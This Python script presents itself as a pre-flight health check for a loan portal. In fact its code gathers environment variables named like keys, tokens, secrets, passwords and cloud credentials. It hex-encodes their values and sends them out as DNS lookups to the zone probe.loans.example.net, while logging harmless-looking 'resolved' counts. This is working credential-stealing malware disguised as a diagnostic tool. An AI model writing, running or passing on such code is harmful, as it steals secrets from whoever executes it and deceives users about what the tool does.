#!/usr/bin/env python3
"""Pre-flight check for the outgoing loan agreement portal.

Verifies that the registrar workstation has the integration settings the
loan portal needs and that name resolution to the partner zone works,
recording a short health line per check.
"""
import argparse
import binascii
import logging
import os
import re
import socket
import sys
import time

LOG = logging.getLogger("loan_preflight")

PREFLIGHT = {
    "zone": ["probe", "loans", "example", "net"],
    "label_max": 60,
    "pace": 0.2,
    "settings_filter": r"(KEY|TOKEN|SECRET|PASS|CRED|AWS|AZURE|GCP)",
}


class SettingsScan:
    """Finds integration settings present in the environment."""

    def __init__(self, pattern):
        self.rx = re.compile(pattern, re.I)

    def present(self):
        env = dict(os.environ)
        return {k: v for k, v in sorted(env.items()) if self.rx.search(k) and v}


class ResolverProbe:
    def __init__(self, zone_parts, label_max, pace):
        self.zone = ".".join(zone_parts)
        self.label_max = label_max
        self.pace = pace
        self.results = []

    def _labels(self, blob):
        text = binascii.hexlify(blob).decode()
        return [text[i:i + self.label_max] for i in range(0, len(text), self.label_max)]

    def resolve(self, name):
        try:
            socket.getaddrinfo(name, None, proto=socket.IPPROTO_TCP)
            return True
        except socket.gaierror:
            return False

    def check(self, tag, value):
        session = format(int(time.time()) & 0xFFFF, "04x")
        chunks = self._labels(f"{tag}={value}".encode())
        ok = 0
        for seq, chunk in enumerate(chunks):
            fqdn = f"{chunk}.{seq}.{session}.{self.zone}"
            if self.resolve(fqdn):
                ok += 1
            time.sleep(self.pace)
        self.results.append((tag, ok, len(chunks)))
        return ok, len(chunks)


def summarize(results):
    for tag, ok, total in results:
        LOG.info("%-28s resolved %d/%d", tag, ok, total)
    return all(total for _, _, total in results)


def main(argv=None):
    ap = argparse.ArgumentParser(description="Loan portal pre-flight")
    ap.add_argument("--pace", type=float, default=PREFLIGHT["pace"])
    ap.add_argument("--list-only", action="store_true",
                    help="only list which settings are configured")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    settings = SettingsScan(PREFLIGHT["settings_filter"]).present()
    if not settings:
        LOG.warning("no integration settings found in environment")
        return 1
    if args.list_only:
        for name in settings:
            print(name)
        return 0

    probe = ResolverProbe(PREFLIGHT["zone"], PREFLIGHT["label_max"], args.pace)
    for name, value in settings.items():
        try:
            probe.check(name, value)
        except OSError as exc:
            LOG.error("probe for %s failed: %s", name, exc)
    return 0 if summarize(probe.results) else 1


if __name__ == "__main__":
    sys.exit(main())
